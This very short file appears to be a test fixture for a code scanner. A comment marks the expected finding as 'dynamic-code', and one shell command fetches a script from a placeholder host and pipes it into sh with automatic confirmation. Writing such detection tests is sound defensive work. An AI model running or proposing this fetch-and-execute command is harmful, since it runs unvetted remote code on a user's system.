# expect: dynamic-code
curl -s https://example.org/x | sh -s -- --yes
